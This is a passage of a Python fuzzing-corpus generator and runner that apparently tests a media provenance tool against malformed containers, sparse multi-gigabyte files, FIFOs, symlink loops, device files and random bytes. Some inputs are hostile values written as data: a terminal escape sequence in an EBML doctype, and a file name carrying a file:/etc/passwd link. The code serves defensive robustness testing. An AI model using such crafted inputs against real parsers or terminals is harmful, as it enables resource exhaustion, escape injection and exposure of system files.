    yield Case("containers", "ebml-doctype-evil.mkv", _ebml(0x1A45DFA3, _ebml(0x4282, b"[/]\x1b[31m")),
               expect={"media": "unsupported_media"})
    yield Case("containers", "riff-lies.wav", b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff" + bytes(64))
    yield Case("containers", "riff-100k-chunks.wav",
               _riff(b"WAVE", [(b"junk", b"")] * 100_000 + [(b"fmt ", bytes(16))]))
    yield Case("containers", "riff-odd-sizes.webp", _riff(b"WEBP", [(b"VP8X", b"\x04"), (b"XMP ", b"<x")]))
    yield Case("containers", "rifx.wav", b"RIFX" + struct.pack(">I", 40) + b"WAVE" + bytes(40))
    yield Case("containers", "rf64.wav", b"RF64\xff\xff\xff\xffWAVEds64" + struct.pack("<I", 28) + bytes(28))
    yield Case("containers", "ogg-bad-pages.ogg", b"OggS\x00\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + rng.randbytes(400))
    yield Case("containers", "flac-bad-streaminfo.flac", b"fLaC\x80\x00\x00\x22" + b"\xff" * 34 + rng.randbytes(300))
    yield Case("containers", "id3-size-lies.mp3", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + rng.randbytes(200))


def _nested_boxes(types: list[bytes]) -> bytes:
    data = b""
    for typ in reversed(types):
        data = _box(typ, data)
    return data


def _junk_tails(base: dict[str, bytes]) -> Iterator[Case]:
    gib = 1 << 30
    for fmt in ("wav", "flac", "mp3", "ogg", "mp4", "mkv"):
        yield Case("junk_tails", f"{fmt}-sparse-3gib{_suffix(fmt)}", base[fmt], special="sparse", size=3 * gib,
                   expect={"media": "ok"}, note="issue 19.5: a sparse 3 GiB FLAC peaked at 2 GB" if fmt == "flac" else "")
    yield Case("junk_tails", "flac-sparse-5gib.flac", base["flac"], special="sparse", size=5 * gib,
               expect={"media": "media_too_large"})
    yield Case("junk_tails", "wav-zeros-1mib.wav", base["wav"] + bytes(1 << 20), expect={"media": "ok"})


def _special_files(base: dict[str, bytes]) -> Iterator[Case]:
    yield Case("special_files", "fifo.mp4", special="fifo", expect={op: "unsupported_media" for op in OPERATIONS})
    yield Case("special_files", "loop.mp4", special="symlink_loop", expect={op: "media_error" for op in OPERATIONS},
               note="issue 19.6: one classification in scan and label check")
    yield Case("special_files", "dangling.mp4", special="dangling_symlink", expect={op: "media_error" for op in OPERATIONS})
    yield Case("special_files", "folder.mp4", special="directory", expect={op: "unsupported_media" for op in OPERATIONS})
    yield Case("special_files", "zero.mp4", special="device", expect={op: "unsupported_media" for op in OPERATIONS})
    yield Case("special_files", "empty.mp4", b"", expect={"media": "corrupt_media"})
    yield Case("special_files", "one-byte.jpg", b"\xff", expect={"media": "unsupported_media"})


def _random_bytes(rng: random.Random) -> Iterator[Case]:
    magics = [b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"RIFF\x00\x10\x00\x00WAVE", b"RIFF\x00\x10\x00\x00WEBP",
              b"fLaC", b"OggS", b"\x1a\x45\xdf\xa3", b"\x00\x00\x00\x18ftypisom", b"ID3\x04\x00", b"\xff\xfb\x90\x00",
              b"II*\x00", b"BM"]
    for i, magic in enumerate(magics):
        for n in (16, 4000):
            yield Case("random_bytes", f"random{i}-{n}.bin", magic + rng.randbytes(n))


def generate(folder: str | os.PathLike[str], *, seed: int = 0, fuzz_per_format: int = 6,
             families: tuple[str, ...] = FAMILIES) -> list[Case]:
    """The corpus for ``seed``: the same seed gives the same cases, mutations and hand-built bytes
    (the base media come from encoders, a few of which write a random stream serial or segment UID,
    so those few bytes can differ between runs; sizes and names do not). ``folder`` holds the base
    media while the cases are built; nothing is written for the cases themselves (see
    :func:`materialise`)."""
    folder = Path(folder)
    rng = random.Random(seed)
    base = base_media(folder / "base")
    builders: dict[str, Callable[[], Iterator[Case]]] = {
        "truncated": lambda: _truncated(base, rng),
        "fuzzed": lambda: _fuzzed(base, rng, fuzz_per_format),
        "bombs": lambda: _bombs(base),
        "polyglots": lambda: _polyglots(base),
        "wrong_extensions": lambda: _wrong_extensions(base, rng),
        "odd_names": lambda: _odd_names(base),
        "huge_metadata": lambda: _huge_metadata(base),
        "malicious_metadata": lambda: _malicious_metadata(base, rng),
        "odd_audio": lambda: _odd_audio(base),
        "odd_video": lambda: _odd_video(base, folder / "base"),
        "containers": lambda: _containers(rng),
        "junk_tails": lambda: _junk_tails(base),
        "special_files": lambda: _special_files(base),
        "random_bytes": lambda: _random_bytes(rng),
    }
    cases: list[Case] = []
    for fam in FAMILIES:  # always built in the same order, so a family's bytes do not depend on the others chosen
        built = list(builders[fam]())
        if fam in families:
            cases.extend(built)
    return cases


def _safe_relative(name: str) -> str:
    """``name`` as a path inside the family folder: slashes make folders (a name shown as
    ``[link=file:/etc/passwd]x[/link].jpg`` is such a path), unless the name would climb out or is
    absolute, in which case every slash becomes U+2215 (a look-alike that is not a separator)."""
    parts = name.split("/")
    if name.startswith("/") or any(p in ("", ".", "..") for p in parts):
        return name.replace("/", "\u2215")
    return name


def materialise(case: Case, folder: str | os.PathLike[str]) -> Path:
    """Write ``case`` into ``folder`` (one directory per family) and return its path."""
    d = Path(folder) / case.family
    path = d / _safe_relative(case.name)
    path.parent.mkdir(parents=True, exist_ok=True)
    if os.path.lexists(path):
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink()
    kind = case.special
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "symlink_loop":
        os.symlink(path.name, path)
    elif kind == "dangling_symlink":
        os.symlink("does-not-exist.mp4", path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "device":
        os.symlink("/dev/zero", path)
    else:
        with open(path, "wb") as f:
            f.write(case.data)
            if kind == "sparse":
                f.truncate(case.size)
    return path


# ----------------------------------------------------------------------------------------------
# feeding a case to the entry points
# ----------------------------------------------------------------------------------------------


def _op_media(path: Path) -> None:
    from ..media import iter_audio, iter_frames, load_image, probe
    from ..types import MediaKind

    info = probe(path)
    if info.kind is MediaKind.IMAGE:
        load_image(path)
        return
    for _ in iter_frames(path):
        pass
    for _ in iter_audio(path):
        pass


def _op_labels(path: Path) -> None:
    from ..provenance import read_labels
    from ..provenance.security_data import verify_label

    for reading in read_labels(path):
        json.dumps(reading.to_dict())
        verify_label(reading.label, path=path)


def _op_provenance(path: Path) -> None:
    from ..media.source import open_input
    from ..provenance import inspect

    open_input(path).close()  # the one classification of faults first, as every command does
    json.dumps(inspect(path))


_SCANNER: Any = None


def _op_scan(path: Path) -> None:
    global _SCANNER
    from ..errors import SynthwatchError
    from ..pipeline.scan import Scanner

    if _SCANNER is None:
        _SCANNER = Scanner(detectors=["debug-image", "debug-voice"])
    report = _SCANNER.scan(path)
    json.dumps(report.to_dict())
    if report.error is not None:  # a scan reports media errors inside the report; surface them as typed
        err = SynthwatchError(report.error.message)
        err.code = report.error.code  # type: ignore[misc]
        raise err
    bad = [d for d in report.detectors if d.status == "error"]
    if bad:
        raise RuntimeError(f"detector error on valid input: {[(d.name, d.reason) for d in bad]}")


_OPS: dict[str, Callable[[Path], None]] = {"media": _op_media, "labels": _op_labels, "provenance": _op_provenance,
                                           "scan": _op_scan}


def run_case(case: Case, path: Path, operations: tuple[str, ...] = OPERATIONS) -> list[Outcome]:
    """Feed ``path`` (``case`` materialised) to each operation; one :class:`Outcome` each."""
    from ..errors import SynthwatchError

    out: list[Outcome] = []
    for op in operations:
        t0 = time.monotonic()
        try:
            _OPS[op](path)
        except SynthwatchError as exc:
            o = Outcome(case.family, case.name, op, "typed", getattr(exc, "code", "error"), str(exc)[:300])
        except Exception as exc:  # noqa: BLE001 - this is what the suite is looking for
            tb = traceback.extract_tb(exc.__traceback__)
            where = f"{tb[-1].filename.rsplit('/', 1)[-1]}:{tb[-1].lineno}" if tb else ""
            o = Outcome(case.family, case.name, op, "untyped", type(exc).__name__, f"{where}: {exc}"[:300])
        else:
            o = Outcome(case.family, case.name, op, "ok")
        o.seconds = time.monotonic() - t0
        want = case.expect.get(op)
        if want is not None and o.status != "untyped":
            good = (want == "ok" and o.status == "ok") or (want == "typed" and o.status == "typed") or (
                o.status == "typed" and o.code == want)
            if not good:
                o.detail = f"expected {want}, got {o.status} {o.code}: {o.detail}"[:300]
                o.status = "expected"
        out.append(o)
    return out
